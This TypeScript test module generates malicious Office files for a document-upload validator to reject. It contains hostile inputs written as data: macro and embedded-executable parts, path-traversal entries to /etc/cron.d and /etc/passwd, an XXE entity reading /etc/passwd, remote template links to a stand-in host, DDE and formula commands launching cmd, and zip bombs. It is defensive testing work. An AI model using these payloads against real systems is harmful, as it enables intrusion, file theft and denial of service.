import { randomBytes } from 'node:crypto'
import { makeOleFile, sheetParts, wordParts } from '../valid.ts'
import { zip } from '../zip.ts'
import { makeFiles } from './malicious-file.ts'

const makeZeros = (megabytes: number) => Buffer.alloc(megabytes * 1_048_576)

const makeExternalRelationship = (type: string) =>
  `<Relationships><Relationship Id="r1" Target="https://jahat.id/a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" TargetMode="External"/></Relationships>`

/** Office files, current and legacy: with programs, with inconsistent parts, and archive bombs. */
export const makeMaliciousOfficeFiles = () => {
  const makeBoth = (attack: string, extra: Parameters<typeof zip>[0]) =>
    makeFiles(attack, {
      'isi.docx': zip([...wordParts(), ...extra]),
      'isi.xlsx': zip([...sheetParts(), ...extra]),
    })
  return [
    ...makeBoth('package with macros', [{ name: 'word/vbaProject.bin', bytes: 'x' }]),
    ...makeBoth('package with a macro elsewhere', [{ name: 'xl/VBAPROJECT.BIN', bytes: 'x' }]),
    ...makeBoth('package with a control', [{ name: 'word/activeX/activeX1.xml', bytes: 'x' }]),
    ...makeBoth('package with a program', [
      { name: 'word/embeddings/oleObject1.bin', bytes: 'MZ' },
    ]),
    ...makeBoth('package with a program by name', [{ name: 'xl/media/gambar.exe', bytes: 'MZ' }]),
    ...makeBoth('package with a script', [{ name: 'xl/media/a.js', bytes: 'alert(1)' }]),
    ...makeBoth('package that climbs', [{ name: '../../etc/cron.d/x', bytes: 'x' }]),
    ...makeBoth('package with a place of its own', [{ name: '/etc/passwd', bytes: 'x' }]),
    ...makeBoth('package with a drive', [{ name: 'C:\\windows\\x', bytes: 'x' }]),
    ...makeBoth('package with a name twice', [
      { name: 'word/document.xml', bytes: 'x' },
      { name: 'word/document.xml', bytes: 'y' },
    ]),
    ...makeBoth('package with a lock', [{ name: 'rahasia.xml', bytes: 'x', encrypted: true }]),
    ...makeBoth('package that lies about a size', [
      { name: 'a.xml', bytes: 'abc', claimedSize: 70_000 },
    ]),
    ...makeBoth('package with entities', [
      { name: 'a.xml', bytes: '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>' },
    ]),
    ...makeBoth('package with entities in letters of two bytes', [
      { name: 'a.xml', bytes: Buffer.from('\ufeff<!DOCTYPE a [<!ENTITY x "y">]><a/>', 'utf16le') },
    ]),
    ...makeBoth('package that fetches a template', [
      { name: 'word/_rels/settings.xml.rels', bytes: makeExternalRelationship('attachedTemplate') },
    ]),
    ...makeBoth('package that fetches a frame', [
      { name: 'word/_rels/document.xml.rels', bytes: makeExternalRelationship('frame') },
    ]),
    ...makeBoth('package that starts a program', [
      {
        name: 'xl/worksheets/sheet2.xml',
        bytes: `<worksheet><c><f>cmd|'/c calc'!A1</f></c></worksheet>`,
      },
    ]),
    ...makeBoth('package that starts a program far behind', [
      {
        name: 'xl/worksheets/sheet3.xml',
        bytes: `${'<c><v>1</v></c>'.repeat(9_000)}<c><f>cmd|'/c calc'!A1</f></c>`,
      },
    ]),
    ...makeBoth('package linked to a program', [
      {
        name: 'xl/externalLinks/externalLink1.xml',
        bytes: '<externalLink><ddeLink/></externalLink>',
      },
    ]),
    ...makeBoth('package with a field that starts a program', [
      {
        name: 'word/footer1.xml',
        bytes: '<w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText>',
      },
    ]),
    ...makeBoth('bomb', [{ name: 'xl/sharedStrings.xml', bytes: makeZeros(80) }]),
    ...makeBoth('bomb that says it is small', [
      { name: 'a.xml', bytes: makeZeros(80), claimedSize: 100 },
    ]),
    ...makeBoth(
      'bomb of many parts',
      Array.from({ length: 2_100 }, (_, at) => ({ name: `a/${at}.xml`, bytes: 'x' })),
    ),
    ...makeFiles('package of another kind', {
      'kosong.docx': zip([]),
      'lembar.docx': zip(sheetParts()),
      'surat.xlsx': zip(wordParts()),
      'arsip.docx': zip([{ name: 'a.txt', bytes: 'x' }]),
      'program.xlsx': zip([{ name: 'META-INF/MANIFEST.MF', bytes: 'Main-Class: X' }]),
      'putus.docx': zip(wordParts()).subarray(0, 200),
      'rusak.xlsx': Buffer.concat([Buffer.from('PK\u0003\u0004'), randomBytes(400)]),
    }),
    ...makeFiles('old Office with what acts', {
      'makro.doc': makeOleFile('WordDocument', 'Macros'),
      'makro.xls': makeOleFile('Workbook', '_VBA_PROJECT'),
      'paket.doc': makeOleFile('WordDocument', 'Ole10Native'),
      'lembar.doc': makeOleFile('Workbook'),
      'surat.xls': makeOleFile('WordDocument'),
      'pemasang.doc': makeOleFile('Property.MSI'),
      'kosong.xls': makeOleFile(),
    }),
  ]
}
